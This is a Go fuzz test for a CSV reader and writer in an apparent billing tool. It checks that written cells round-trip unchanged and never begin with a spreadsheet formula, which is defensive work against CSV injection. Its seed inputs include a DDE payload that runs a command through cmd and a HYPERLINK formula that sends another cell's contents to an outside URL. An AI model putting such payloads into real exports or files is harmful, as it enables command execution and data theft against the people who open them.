package csvin

import (
	"bytes"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"cloudbill/internal/csvout"
)

// FuzzNeutralRoundTrip (finding 1): a cell written by cloudbill's CSV writer
// reads back through csvin to the value it was written from, and the written cell never
// starts what a spreadsheet takes as a formula (a plain number such as -21.38 stays one).
func FuzzNeutralRoundTrip(f *testing.F) {
	for _, s := range []string{"=cmd|'/Ccalc'!A0", "=1+1", `=HYPERLINK("http://x?x="&B2,"x")`, "-21.38", "'=x", "''-1", "@A1", "\t=1", "-", "+5", "区民政局", "a,b", "x\ny", `"q"`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if !utf8.ValidString(v) || strings.TrimSpace(v) != v || strings.Contains(v, "\r") || strings.ContainsRune(v, 0xFEFF) {
			t.Skip() // csvin trims cells and ends lines at \r\n; inputs are text
		}
		var buf bytes.Buffer
		w := csvout.NewWriter(&buf)
		require.NoError(t, w.WriteAll([][]string{{"id", "name"}, {"D1", v}}))
		written := buf.String()
		r, err := Open("f.csv", strings.NewReader(written), Spec{Required: []string{"id", "name"}})
		require.NoError(t, err)
		row, err := r.Next()
		if v == "" {
			// a line of one empty cell after "D1," is still two fields
			require.NoError(t, err)
		} else {
			require.NoError(t, err, "written %q", written)
		}
		assert.Equal(t, v, row.Get("name"), "written %q", written)
		_, err = r.Next()
		assert.Equal(t, io.EOF, err)
		cell := strings.TrimPrefix(written[len("id,name\nD1,"):], `"`)
		if cell != "" {
			c := cell[0]
			assert.False(t, c == '=' || c == '@' || c == '\t' || ((c == '+' || c == '-') && csvout.Active(v)), "written cell %q starts a formula", cell)
		}
	})
}
